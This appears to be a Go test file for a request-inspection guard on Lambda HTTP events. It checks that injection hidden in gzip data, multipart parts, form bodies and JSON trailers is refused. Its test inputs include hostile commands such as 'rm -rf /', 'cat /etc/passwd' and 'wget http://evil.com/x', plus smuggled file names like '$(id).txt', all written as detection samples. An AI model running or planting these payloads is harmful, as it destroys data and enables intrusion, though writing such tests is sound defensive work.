package event

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"redoubt/policy"
)

// posted is a request of a form with a body as the function gets it, which Lambda
// hands over in base64.
func posted(headers, body string) string {
	return fmt.Sprintf(`{"version":"2.0","routeKey":"$default","headers":%s,"requestContext":{"http":{"method":"POST"}},"body":%q,"isBase64Encoded":true}`,
		headers, base64.StdEncoding.EncodeToString([]byte(body)))
}

// zip is a text as gzip.
func zip(text string, h gzip.Header) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	z.Header = h
	fmt.Fprint(z, text)
	z.Close()
	return b.String()
}

// inspected tells what the real inspection says of bodies.
func inspected(t *testing.T, headers string, bodies map[string]bool) {
	t.Helper()
	g := real(t)
	for body, refused := range bodies {
		d := g.Decide(context.Background(), Invocation{Event: []byte(posted(headers, body))})
		if got := d.Verdict != Allow; got != refused {
			t.Errorf("%q: refused %v %s", body, got, reasons(d))
		}
	}
}

// TestGzipHidesNothing: what stands in front of or behind compressed data is read by
// those who do not unpack it.
func TestGzipHidesNothing(t *testing.T) {
	form := "&f=x%3B+cat+/etc/passwd&g=1"
	inspected(t, "{}", map[string]bool{
		zip("hi", gzip.Header{}) + form: true,
		zip("hi", gzip.Header{}) + "\r\n--B\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nx; cat /etc/passwd\r\n--B--\r\n": true,
		zip("hi", gzip.Header{Comment: form}):                                     true,
		zip("hi", gzip.Header{}) + zip("ho", gzip.Header{Comment: form}):          true,
		zip(`{"f":"x; cat`, gzip.Header{}) + zip(` /etc/passwd"}`, gzip.Header{}): true,
		zip("hi", gzip.Header{}) + "&f=tea":                                       false,
		zip("hi", gzip.Header{Name: "notes.txt"}):                                 false,
		zip(`{"f":"tea"}`, gzip.Header{}):                                         false,
	})
}

// owned tells whether the policy lets the caller "me" send a body.
func owned(t *testing.T, body string) string {
	t.Helper()
	f := enforced()
	f.Authentication = []policy.Authentication{{Name: "gateway", Authorizer: &policy.Authorizer{Type: "jwt"}}}
	f.Triggers = []policy.Trigger{{Kind: "http-api", Authentication: []string{"gateway"}}}
	f.Authorization = &policy.Authorization{Ownership: []policy.Owner{{Field: "event.body.userId", Claim: "sub"}}}
	event := fmt.Sprintf(`{"version":"2.0","routeKey":"POST /o","requestContext":{"http":{"method":"POST"},"authorizer":{"jwt":{"claims":{"sub":"me"},"scopes":null}}},"body":%q,"isBase64Encoded":true}`,
		base64.StdEncoding.EncodeToString([]byte(body)))
	return reasons(decide(t, f, event))
}

func TestOwnershipOfWhatIsReadTwoWays(t *testing.T) {
	const refused = "authorization event.body.userId ownership"
	mine := zip(`{"userId":"me"}`, gzip.Header{})
	for body, want := range map[string]string{
		mine:                                     "",
		mine + "&userId=other":                   refused,
		zip("{}", gzip.Header{}) + "&userId=me":  refused,
		zip("{}", gzip.Header{Name: "userId=x"}): refused,
		`{"userId":"me","UserID":"other"}`:       refused,
		`{"UserID":"other","userId":"me"}`:       refused,
		`{"USERID":"other"}`:                     refused,
		`{"u\u017ferId":"other"}`:                refused, // the long s, which encoding/json takes for an s
		`{"userId":"me","UserID":"me"}`:          "",
		`{"USERID":"me"}`:                        "",
		`{"userIds":"other"}`:                    "",
	} {
		if got := owned(t, body); got != want {
			t.Errorf("%q: %q, want %q", body, got, want)
		}
	}
}

// part is a form with files, of one field.
func part(before, head, value string) string {
	return before + "--B\r\nContent-Disposition: form-data; " + head + "\r\n\r\n" + value + "\r\n--B--\r\n"
}

// TestParts: parts are told apart as those do who read forms with files.
func TestParts(t *testing.T) {
	const name = `name="f"`
	bodies := map[string]bool{}
	for _, value := range []string{"; rm -rf /", "sleep 5", "admin'--", "wget http://evil.com/x"} {
		lines := strings.ReplaceAll(part("", name, value), "\r\n", "\n")
		for _, body := range []string{
			part("", name, value), part("\r\n", name, value), part("hello\r\n", name, value), lines, "hello\n" + lines,
			strings.Replace(part("", name, value), "--B\r", "--B \t\r", 1),
			part("", name, "tea\r\n--B\r\nContent-Disposition: form-data; name=\"g\"\r\n\r\n"+value),
			strings.ReplaceAll(part("", name, value), "--B", "--"+strings.Repeat("B", 90)),
		} {
			bodies[body] = true
		}
	}
	bodies[part("", name, "y--B; rm -rf /")] = true
	for _, head := range []string{`name="f"; filename="$(id).txt"`, `filename="x;id"; name="f"`, `name="f"; filename=x;id`, `name="x;id"`, `name="__proto__"`, `name="f"; filename*=utf-8''%24%28id%29.txt`, `name="f"; filename="a\";id;\""`} {
		bodies[part("", head, "tea")] = true
	}
	for _, honest := range []string{
		part("", name, "tea"), part("hello\r\n", name, "leave it at the door; thanks"), part("", `name="f"; filename="a photo (1).jpg"`, "--B is no boundary here"),
		part("", `name="f"; filename*=UTF-8''na%C3%AFve.txt`, "tea"), "-- \nBest regards\n--\nAda", "--B", "--B--", "--",
	} {
		bodies[honest] = false
	}
	for _, headers := range []string{`{"content-type":"multipart/form-data; boundary=B"}`, `{"CONTENT-Type":"multipart/form-data;Boundary=\"B\""}`, "{}"} {
		inspected(t, headers, bodies)
	}
}

// TestBoundaryOfHeaders: the boundary is the one that the event tells.
func TestBoundaryOfHeaders(t *testing.T) {
	decoy := "--Z\r\nContent-Disposition: form-data; name=\"z\"\r\n\r\n" + part("", `name="f"`, "sleep 5") + "--C\r\n\r\n; rm -rf /\r\n--C--"
	g := real(t)
	for headers, refused := range map[string]bool{
		`"headers":{"content-type":"multipart/form-data; boundary=B"}`:                  true,
		`"multiValueHeaders":{"Content-Type":["multipart/form-data; boundary=B"]}`:      true,
		`"headers":{"content-type":"multipart/form-data; boundary=A; boundary = B"}`:    true,
		`"headers":{"content-type":"multipart/form-data; boundary=A; boundary=\"B\""}`:  true,
		`"headers":{"content-type":"ȺȺȺȺ multipart/form-data; boundary=B"}`:             true,
		`"headers":{"content-type":"ȺȺȺȺ boundary"}`:                                    false,
		`"headers":{"content-type":"multipart/mixed; boundary=C"}`:                      true, // its part has no head
		`"headers":{"content-type":"multipart/form-data; boundary=Z","x-boundary":"B"}`: false,
	} {
		event := strings.Replace(posted("{}", decoy), `"headers":{}`, headers, 1)
		if d := g.Decide(context.Background(), Invocation{Event: []byte(event)}); (d.Verdict != Allow) != refused {
			t.Errorf("%s: %s", headers, reasons(d))
		}
	}
}

// TestForms: a form is one with spaces in it and around it, and where it is declared.
func TestForms(t *testing.T) {
	for headers, bodies := range map[string]map[string]bool{
		"{}": {
			"a=1&f=sleep%205\r\n":        true,
			" a=1&f=sleep%205&b=1 ":      true,
			"a=1&f=sleep 5":              true,
			"a&b[x]=1&f=sleep 5&b=tea":   true,
			"__proto__[x]=1 \n":          true,
			"a=1&f=tea\r\n":              false,
			"a = b & f=sleep 5":          false, // no form, but prose
			"note to all & f=sleep 5":    false,
			"x=the sum of a & b, please": false,
		},
		`{"content-type":"Application/X-WWW-Form-Urlencoded; charset=utf-8"}`: {
			"note to all&f=sleep 5\n": true,
			"(a)&f=sleep+5":           true,
			"note to all&f=tea":       false,
		},
	} {
		inspected(t, headers, bodies)
	}
}

// TestCodings: a body that the function would read in another way than the guard.
func TestCodings(t *testing.T) {
	const honest = `{"f":"tea"}`
	for headers, want := range map[string]string{
		`"headers":{}`: "",
		`"headers":{"content-encoding":"gzip","content-type":"application/json; charset=utf-8"}`:        "",
		`"headers":{"content-encoding":"deflate"}`:                                                      "form event.body coding",
		`"headers":{"Content-Encoding":"br"}`:                                                           "form event.body coding",
		`"headers":{"content-encoding":"gzip, gzip"}`:                                                   "form event.body coding",
		`"headers":{"content-type":"text/plain; charset=utf-16le"}`:                                     "form event.body coding",
		`"headers":{"content-type":"text/plain; charset=utf-7"}`:                                        "form event.body coding",
		`"multiValueHeaders":{"Content-Type":["text/plain","text/plain; charset=utf-32"]},"headers":{}`: "form event.body coding",
	} {
		event := strings.Replace(posted("{}", zip(honest, gzip.Header{})), `"headers":{}`, headers, 1)
		d := decide(t, enforced(), event)
		if got := reasons(d); got != want || want != "" && !strings.Contains(string(d.Response), `"statusCode":415`) {
			t.Errorf("%s: %q, want %q, answers %s", headers, got, want, d.Response)
		}
	}
	empty := request(map[string]string{"content-encoding": "br", "content-type": "text/plain; charset=utf-16"}, "")
	if got := reasons(decide(t, enforced(), empty)); got != "" {
		t.Errorf("no body at all: %s", got)
	}
	if got := reasons(decide(t, enforced(), `{"headers":{"content-encoding":"br"},"body":"x"}`)); got != "" {
		t.Errorf("no request: %s", got)
	}
}

// TestLettersOfNames: a listed field is meant in whatever letters it is written.
func TestLettersOfNames(t *testing.T) {
	f := enforced()
	f.Fields = []policy.Field{
		{Path: "event.body.file", Classes: policy.Command},
		{Path: "event.body.FILE", Classes: policy.SQL},
		{Path: "event.body.Deep.list[].Run", Classes: policy.Command},
		{Path: "event.body.any.*", Classes: policy.Command},
		{Path: "event.body.any.name", Classes: policy.SQL},
	}
	for body, want := range map[string]string{
		`{"File":"` + attack + `"}`:                      "inspection event.body.File command",
		`{"FILE":"` + attack + `"}`:                      "inspection event.body.FILE command",
		`{"deep":{"LIST":[{"run":"` + attack + `"}]}}`:   "inspection event.body.deep.LIST[].run command",
		`{"any":{"Name":"` + attack + `"}}`:              "inspection event.body.any.Name command",
		`{"files":"` + attack + `"}`:                     "",
		`{"File":"tea","deep":{"ran":"` + attack + `"}}`: "",
	} {
		if got := reasons(decide(t, f, request(nil, body))); got != want {
			t.Errorf("%s: %q, want %q", body, got, want)
		}
	}
}

// TestWhatStandsBehindJSON: some readers stop where a value ends, others say that the
// text is no JSON.
func TestWhatStandsBehindJSON(t *testing.T) {
	inspected(t, "{}", map[string]bool{
		`{"f":"cat /etc/passwd"} x`:               true,
		`{"f":"sleep 5"}{"f":"tea"}`:              true,
		`["admin'--"] and more`:                   true,
		`{"f":"tea"} ; cat /etc/passwd`:           true,
		`{"f":"tea","f":"sleep 5"} x`:             true,
		`{"f":"tea"} x`:                           false,
		`"Hello," she said, "and thank you"`:      false,
		`[1] see the footnote on the last page`:   false,
		`{name}, your order is on its way to you`: false,
	})
}

// TestLongForms: how a long body ends says nothing of how it begins.
func TestLongForms(t *testing.T) {
	words := strings.Repeat("lorem ipsum dolor ", 8000)
	const form, parts = `{"content-type":"application/x-www-form-urlencoded"}`, `{"content-type":"multipart/form-data; boundary=B"}`
	inspected(t, form, map[string]bool{"f=sleep%205&b=" + words: true, "f=tea&b=" + words: false})
	part := func(value string) string {
		return "--B\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n" + value + "\r\n--B\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\n" + words
	}
	inspected(t, parts, map[string]bool{part("sleep 5"): true, part("tea"): false})
}
